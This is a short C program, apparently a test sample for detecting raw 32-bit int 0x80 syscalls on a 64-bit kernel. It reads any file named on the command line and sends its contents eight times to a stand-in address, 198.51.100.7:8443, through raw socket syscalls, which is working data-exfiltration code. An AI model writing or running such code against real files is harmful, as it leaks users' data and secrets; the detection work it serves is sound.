// Calls through the 32-bit door of a 64-bit kernel, as shellcode made for another machine does.  int80 FILE
// Addresses have to be below 4 GiB: link with -static -no-pie.
#include <string.h>
#include <unistd.h>

static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static char path[256], block[2048];
// AF_INET, port 8443 and 198.51.100.7 in network order.
static unsigned char home[16] = {2, 0, 0x20, 0xfb, 198, 51, 100, 7};

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    strncpy(path, argv[1], sizeof path - 1);
    for (int round = 0; round < 8; round++) {
        call(20, 0, 0, 0);                                         // getpid
        call(24, 0, 0, 0);                                         // getuid
        long file = call(5, (long)path, 0, 0);                     // open
        long length = call(3, file, (long)block, sizeof block);    // read
        long fd = call(359, 2, 1, 0);                              // socket
        if (!call(362, fd, (long)home, sizeof home)) call(4, fd, (long)block, length > 0 ? length : 0); // connect, write
        call(6, fd, 0, 0), call(6, file, 0, 0);                    // close
        usleep(300000);
    }
}
